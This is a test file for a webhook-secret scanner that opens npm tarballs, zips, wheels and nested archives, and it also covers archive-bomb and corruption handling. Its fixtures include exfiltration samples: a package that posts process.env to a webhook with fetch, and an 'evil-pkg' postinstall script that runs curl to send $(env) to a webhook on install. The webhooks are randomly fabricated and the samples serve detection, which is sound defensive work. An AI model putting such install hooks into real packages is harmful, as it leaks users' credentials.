// Packages as users get them: npm tarballs, zips and wheels, nested archives, archive bombs and
// corrupt archives (counted skips, never a crash), and node_modules with --include-dependencies.
// Archives are built here with node-tar and yazl (and the system tar when present); webhook URLs
// are fabricated at run time from crypto random bytes, so this file holds no secret.
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import * as tar from 'tar';
import yazl from 'yazl';
import { afterEach, describe, expect, it } from 'vitest';
import { run } from '../../src/cli/index.js';
import { placeholderReason } from '../../src/detect/index.js';
import { scan, type ScanOptions } from '../../src/scan.js';
import { hasArchiveName, sniffArchive } from '../../src/sources/index.js';
import type { ScanResult } from '../../src/types.js';

// ---- fabricated URLs ------------------------------------------------------------------------
const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const rand = (alphabet: string, n: number) => [...randomBytes(n)].map((b) => alphabet[b % alphabet.length]).join('');
const SCHEME = 'https://';

/** A Slack webhook URL with a fresh random secret (never a placeholder). */
function slack(): string {
  for (;;) {
    const secret = `T${rand(UPPER, 9)}/B${rand(UPPER, 10)}/${rand(ALNUM, 24)}`;
    if (!placeholderReason(secret)) return `${SCHEME}hooks.slack.com/services/${secret}`;
  }
}
/** A Discord webhook URL with a fresh random secret. */
function discord(): string {
  for (;;) {
    const secret = `${1 + (randomBytes(1)[0] % 9)}${rand('0123456789', 17)}/${rand(`${ALNUM}_-`, 68)}`;
    if (!placeholderReason(secret)) return `${SCHEME}discord.com/api/webhooks/${secret}`;
  }
}

// ---- temporary trees and archives -----------------------------------------------------------
const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});
function tempDir(): string {
  const d = mkdtempSync(join(tmpdir(), 'hookscan-archive-'));
  dirs.push(d);
  return d;
}
function write(root: string, files: Record<string, string | Buffer>): string {
  for (const [rel, content] of Object.entries(files)) {
    const abs = join(root, rel);
    mkdirSync(dirname(abs), { recursive: true });
    writeFileSync(abs, content);
  }
  return root;
}

/** A tarball of `files` (made with node-tar, as npm pack does), gzipped unless `gzip: false`. */
async function tarball(files: Record<string, string | Buffer>, gzip = true): Promise<Buffer> {
  const src = write(tempDir(), files);
  const out = join(tempDir(), gzip ? 'out.tgz' : 'out.tar');
  await tar.c({ gzip, file: out, cwd: src, portable: true }, Object.keys(files));
  return readFileSync(out);
}

/** A zip of `files` made with yazl (deflated unless `store`). */
function zip(files: Record<string, string | Buffer>, store = false): Promise<Buffer> {
  const z = new yazl.ZipFile();
  for (const [name, content] of Object.entries(files)) z.addBuffer(Buffer.from(content), name, { compress: !store });
  z.end();
  return new Promise((resolve, reject) => {
    const parts: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => parts.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(parts)));
    z.outputStream.on('error', reject);
  });
}

/** Every reported location as 'path:line:column', sorted. */
const places = (r: ScanResult) => r.findings.flatMap((f) => f.locations.map((l) => `${l.path}:${l.line}:${l.column}`)).sort();
const skipped = (r: ScanResult) => r.stats.skipped.map((s) => `${s.path} ${s.reason}`).sort();
const urls = (r: ScanResult) => r.findings.map((f) => f.url).sort();

async function scanOne(dir: string, name: string, opts: Partial<ScanOptions> = {}): Promise<ScanResult> {
  return scan({ paths: [join(dir, name)], cwd: dir, jobs: 1, ...opts });
}

// ---- formats --------------------------------------------------------------------------------
describe('archives named as paths are read member by member', () => {
  it('an npm tarball: findings at pkg.tgz!package/…, with lines and columns inside the member', async () => {
    const [a, b] = [slack(), discord()];
    const dir = tempDir();
    write(dir, {
      'pkg-1.0.0.tgz': await tarball({
        'package/package.json': `{\n  "name": "pkg",\n  "scripts": { "postinstall": "node install.js" }\n}\n`,
        'package/install.js': `// sends a greeting\nfetch("${a}", { method: "POST" });\n`,
        'package/lib/deep/util.js': `module.exports = "${b}";\n`,
      }),
    });
    const r = await scanOne(dir, 'pkg-1.0.0.tgz');
    expect(places(r)).toEqual(['pkg-1.0.0.tgz!package/install.js:2:8', 'pkg-1.0.0.tgz!package/lib/deep/util.js:1:19']);
    expect(urls(r)).toEqual([a, b].sort());
    expect(r.stats.filesScanned).toBe(3);
    expect(r.stats.skipped).toEqual([]);
  });

  it('a .zip and a .whl (a zip by another name), deflated and stored', async () => {
    const [a, b] = [slack(), slack()];
    const dir = tempDir();
    write(dir, {
      'bundle.zip': await zip({ 'src/app.py': `HOOK = "${a}"\n`, 'README.md': 'nothing here\n' }),
      'tool-1.0-py3-none-any.whl': await zip({ 'tool/__init__.py': `import requests\nrequests.post("${b}")\n`, 'tool-1.0.dist-info/METADATA': 'Name: tool\n' }, true),
    });
    expect(places(await scanOne(dir, 'bundle.zip'))).toEqual(['bundle.zip!src/app.py:1:9']);
    expect(places(await scanOne(dir, 'tool-1.0-py3-none-any.whl'))).toEqual(['tool-1.0-py3-none-any.whl!tool/__init__.py:2:16']);
  });

  it('a plain .tar, a .tar.gz and a gzip of one file (x.log.gz!x.log)', async () => {
    const [a, b, c] = [slack(), slack(), slack()];
    const dir = tempDir();
    write(dir, {
      'plain.tar': await tarball({ 'etc/hook.conf': `url=${a}\n` }, false),
      'release.tar.gz': await tarball({ 'release/notify.sh': `curl -X POST ${b}\n` }),
      'build.log.gz': gzipSync(`step 1\nposting to ${c}\n`),
    });
    expect(places(await scanOne(dir, 'plain.tar'))).toEqual(['plain.tar!etc/hook.conf:1:5']);
    expect(places(await scanOne(dir, 'release.tar.gz'))).toEqual(['release.tar.gz!release/notify.sh:1:14']);
    expect(places(await scanOne(dir, 'build.log.gz'))).toEqual(['build.log.gz!build.log:2:12']);
  });

  it('is told by content, not by name: a tarball without extension is opened, a text file with one is not', async () => {
    const [a, b] = [slack(), slack()];
    const dir = tempDir();
    write(dir, { download: await tarball({ 'package/index.js': `x("${a}")\n` }), 'notes.zip.txt': `${b}\n` });
    expect(places(await scanOne(dir, 'download'))).toEqual(['download!package/index.js:1:4']);
    expect(places(await scanOne(dir, 'notes.zip.txt'))).toEqual(['notes.zip.txt:1:1']);
  });

  it('reads tarballs made by the system tar too (GNU long names)', async (ctx) => {
    if (spawnSync('tar', ['--version']).status !== 0) {
      console.warn('skipped: no tar command on this machine');
      ctx.skip('no tar command');
    }
    const a = slack();
    const long = `package/${'very-long-folder-name/'.repeat(8)}index.js`;
    const src = write(tempDir(), { [long]: `const u = "${a}";\n` });
    const dir = tempDir();
    expect(spawnSync('tar', ['-czf', join(dir, 'sys.tgz'), '-C', src, 'package']).status).toBe(0);
    expect(places(await scanOne(dir, 'sys.tgz'))).toEqual([`sys.tgz!${long}:1:12`]);
  });

  it('counts binary members as skipped, under their member path', async () => {
    const dir = tempDir();
    write(dir, { 'img.zip': await zip({ 'logo.png': Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]), randomBytes(64)]), 'a.txt': 'hello\n' }) });
    const r = await scanOne(dir, 'img.zip');
    expect(skipped(r)).toEqual(['img.zip!logo.png binary']);
    expect(r.stats.filesScanned).toBe(1);
  });
});

describe('nested archives', () => {
  it('opens an archive inside an archive: outer.zip!inner.tgz!package/a.js', async () => {
    const a = slack();
    const inner = await tarball({ 'package/a.js': `post("${a}")\n` });
    const dir = tempDir();
    write(dir, { 'outer.zip': await zip({ 'vendor/inner.tgz': inner, 'top.txt': 'x\n' }) });
    expect(places(await scanOne(dir, 'outer.zip'))).toEqual(['outer.zip!vendor/inner.tgz!package/a.js:1:7']);
  });

  it('stops at the depth cap with a counted skip', async () => {
    const a = slack();
    const level3 = await zip({ 'deep.txt': `${a}\n` });
    const level2 = await tarball({ 'l3.zip': level3 });
    const dir = tempDir();
    write(dir, { 'l1.zip': await zip({ 'l2.tgz': level2 }) });
    expect(places(await scanOne(dir, 'l1.zip'))).toEqual(['l1.zip!l2.tgz!l3.zip!deep.txt:1:1']);
    const r = await scanOne(dir, 'l1.zip', { archives: { maxDepth: 2 } });
    expect(r.findings).toEqual([]);
    expect(skipped(r)).toEqual(['l1.zip!l2.tgz!l3.zip archive-limit']);
    expect(r.stats.skipped[0].detail).toMatch(/nested more than 2 levels/);
  });
});

describe('archives found while walking a folder', () => {
  it('are opened only with archives.walk (--archives); files named directly always are', async () => {
    const [a, b] = [slack(), slack()];
    const dir = tempDir();
    write(dir, {
      'src/app.js': `x("${a}")\n`,
      'vendor/dep-2.0.0.tgz': await tarball({ 'package/index.js': `y("${b}")\n` }),
    });
    const plain = await scan({ paths: [dir], jobs: 1 });
    expect(places(plain)).toEqual(['src/app.js:1:4']);
    expect(skipped(plain)).toEqual(['vendor/dep-2.0.0.tgz binary']);
    const walked = await scan({ paths: [dir], jobs: 1, archives: { walk: true } });
    expect(places(walked)).toEqual(['src/app.js:1:4', 'vendor/dep-2.0.0.tgz!package/index.js:1:4']);
    expect(walked.stats.skipped).toEqual([]);
  });

  it('knows archive names and magic bytes', async () => {
    for (const n of ['a.tgz', 'a.tar.gz', 'a.tar', 'a.zip', 'a.whl', 'a.jar', 'a.nupkg', 'a.gem', 'x.log.gz']) expect(hasArchiveName(n), n).toBe(true);
    for (const n of ['a.js', 'a.tar.js', 'zip', 'a.gzip.txt']) expect(hasArchiveName(n), n).toBe(false);
    expect(sniffArchive(await zip({ a: 'b' }))).toBe('zip');
    expect(sniffArchive(await tarball({ a: 'b' }))).toBe('gzip');
    expect(sniffArchive(await tarball({ a: 'b' }, false))).toBe('tar');
    expect(sniffArchive(Buffer.from('plain text that is long enough '.repeat(40)))).toBeUndefined();
  });
});

describe('caps: archive bombs are counted skips, never a crash', () => {
  it('skips a member over the member cap (declared size) and scans the rest', async () => {
    const a = slack();
    const dir = tempDir();
    // 30 MB of zeros deflates to a few tens of KB: the classic small-file bomb.
    write(dir, { 'bomb.zip': await zip({ 'zeros.bin': Buffer.alloc(30 * 1024 * 1024), 'ok.txt': `${a}\n` }) });
    const r = await scanOne(dir, 'bomb.zip');
    expect(places(r)).toEqual(['bomb.zip!ok.txt:1:1']);
    expect(skipped(r)).toEqual(['bomb.zip!zeros.bin too-large']);
    // the same with tar: the header's size decides before anything is held in memory
    write(dir, { 'bomb.tgz': await tarball({ 'zeros.txt': Buffer.alloc(2 * 1024 * 1024, 0x61), 'ok.txt': `${a}\n` }) });
    const t = await scanOne(dir, 'bomb.tgz', { maxFileSize: 1024 * 1024 });
    expect(places(t)).toEqual(['bomb.tgz!ok.txt:1:1']);
    expect(skipped(t)).toEqual(['bomb.tgz!zeros.txt too-large']);
  });

  it('does not trust a zip that understates a member size', async () => {
    const a = slack();
    const text = Buffer.from(`${'filler line\n'.repeat(200_000)}`);
    const bytes = await zip({ 'liar.txt': text, 'ok.txt': `${a}\n` });
    // Rewrite the uncompressed size of liar.txt in the central directory (offset 24 of its record).
    const cd = bytes.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    expect(bytes.readUInt32LE(cd + 24)).toBe(text.length);
    bytes.writeUInt32LE(1000, cd + 24);
    const dir = tempDir();
    write(dir, { 'liar.zip': bytes });
    const r = await scanOne(dir, 'liar.zip');
    expect(places(r)).toEqual(['liar.zip!ok.txt:1:1']);
    expect(skipped(r)).toEqual(['liar.zip!liar.txt corrupt-archive']);
  });

  it('stops reading at the total uncompressed size cap (gzip bomb)', async () => {
    const dir = tempDir();
    write(dir, { 'huge.log.gz': gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x61)) });
    const r = await scanOne(dir, 'huge.log.gz', { archives: { maxTotalBytes: 8 * 1024 * 1024 } });
    expect(skipped(r)).toEqual(['huge.log.gz archive-limit']);
    expect(r.stats.skipped[0].detail).toMatch(/more than 8388608 bytes uncompressed/);
  });

  it('counts the total across members and nested archives', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 8; i++) files[`part${i}.txt`] = 'x'.repeat(512 * 1024);
    const dir = tempDir();
    write(dir, { 'outer.zip': await zip({ 'inner.tgz': await tarball(files) }) });
    const r = await scanOne(dir, 'outer.zip', { archives: { maxTotalBytes: 2 * 1024 * 1024 } });
    expect(skipped(r)).toEqual(['outer.zip!inner.tgz archive-limit']);
    expect(r.stats.filesScanned).toBeLessThan(8);
  });

  it('stops at the entry cap', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 30; i++) files[`f${i}.txt`] = `${i}\n`;
    const dir = tempDir();
    write(dir, { 'many.zip': await zip(files), 'many.tgz': await tarball(files) });
    for (const name of ['many.zip', 'many.tgz']) {
      const r = await scanOne(dir, name, { archives: { maxEntries: 10 } });
      expect(skipped(r), name).toEqual([`${name} archive-limit`]);
      expect(r.stats.filesScanned, name).toBe(10);
    }
  });
});

describe('corrupt archives are counted skips with the reason', () => {
  it('random bytes under archive names', async () => {
    const dir = tempDir();
    write(dir, {
      'broken.tgz': Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0]), randomBytes(4000)]),
      'broken.zip': Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(4000)]),
      'broken.tar': Buffer.from('this is not a tar file\n'.repeat(100)),
    });
    const r = await scan({ paths: ['broken.tgz', 'broken.zip', 'broken.tar'], cwd: dir, jobs: 1 });
    expect(skipped(r)).toEqual(['broken.tar corrupt-archive', 'broken.tgz corrupt-archive', 'broken.zip corrupt-archive']);
    for (const s of r.stats.skipped) expect(s.detail, s.path).toBeTruthy();
  });

  it('a truncated tarball: what was read before the damage is still scanned', async () => {
    const a = slack();
    const files: Record<string, string> = { 'package/first.js': `x("${a}")\n` };
    for (let i = 0; i < 20; i++) files[`package/filler${i}.bin.txt`] = rand(ALNUM, 20_000);
    const whole = await tarball(files);
    const dir = tempDir();
    write(dir, { 'cut.tgz': whole.subarray(0, Math.floor(whole.length / 2)) });
    const r = await scanOne(dir, 'cut.tgz');
    expect(places(r)).toEqual(['cut.tgz!package/first.js:1:4']);
    expect(skipped(r)).toEqual(['cut.tgz corrupt-archive']);
  });

  it('through the CLI: exit code, JSON locations and the skipped summary', async () => {
    const a = slack();
    const dir = tempDir();
    write(dir, {
      'evil-1.0.0.tgz': await tarball({ 'package/index.js': `fetch("${a}", {body: JSON.stringify(process.env)})\n` }),
      'vendor/broken.zip': Buffer.from('PK\x05\x06 not really'),
    });
    let stdout = '';
    let stderr = '';
    const io = { stdout: { write: (s: string) => (stdout += s) }, stderr: { write: (s: string) => (stderr += s) }, cwd: dir, env: {} };
    const code = await run(['scan', 'evil-1.0.0.tgz', 'vendor', '--archives', '-f', 'json', '-q'], io);
    expect(stderr).toBe('');
    expect(code).toBe(1);
    const doc = JSON.parse(stdout) as { findings: { locations: { path: string }[] }[]; stats: { skipped: { path: string; reason: string }[] } };
    expect(doc.findings.flatMap((f) => f.locations.map((l) => l.path))).toEqual(['evil-1.0.0.tgz!package/index.js']);
    expect(doc.stats.skipped.map((s) => `${s.path} ${s.reason}`)).toEqual(['vendor/broken.zip corrupt-archive']);
    expect(stdout).not.toContain(a);
  });
});

describe('--include-dependencies', () => {
  /** A project whose dependency posts the environment to a webhook from its postinstall script. */
  function project(hook: string): string {
    return write(tempDir(), {
      '.gitignore': 'node_modules/\n',
      'package.json': JSON.stringify({ name: 'app', dependencies: { 'evil-pkg': '1.0.0' } }, null, 2),
      'index.js': 'require("evil-pkg");\n',
      'node_modules/evil-pkg/package.json': JSON.stringify({ name: 'evil-pkg', version: '1.0.0', scripts: { postinstall: `curl -s -d "$(env)" ${hook}` } }, null, 2),
      'node_modules/evil-pkg/index.js': 'module.exports = 1;\n',
      'node_modules/.package-lock.json': '{}\n',
    });
  }

  it('walks node_modules only when asked, although .gitignore lists it', async () => {
    const hook = discord();
    const root = project(hook);
    expect((await scan({ paths: [root], jobs: 1 })).findings).toEqual([]);
    const r = await scan({ paths: [root], jobs: 1, includeDependencies: true });
    expect(places(r)).toEqual(['node_modules/evil-pkg/package.json:5:43']);
    expect(urls(r)).toEqual([hook]);
  });

  it('through the CLI, and the same package as an npm tarball', async () => {
    const hook = discord();
    const root = project(hook);
    let stdout = '';
    const io = { stdout: { write: (s: string) => (stdout += s) }, stderr: { write: () => true }, cwd: root, env: {} };
    expect(await run(['scan', '.', '-q'], io)).toBe(0);
    expect(await run(['scan', '.', '--include-dependencies', '-f', 'json', '-q'], io)).toBe(1);
    expect(stdout).toContain('node_modules/evil-pkg/package.json');
    const dir = tempDir();
    const pkg = JSON.parse(readFileSync(join(root, 'node_modules/evil-pkg/package.json'), 'utf8')) as object;
    write(dir, { 'evil-pkg-1.0.0.tgz': await tarball({ 'package/package.json': JSON.stringify(pkg, null, 2) }) });
    expect(places(await scanOne(dir, 'evil-pkg-1.0.0.tgz'))).toEqual(['evil-pkg-1.0.0.tgz!package/package.json:5:43']);
  });
});
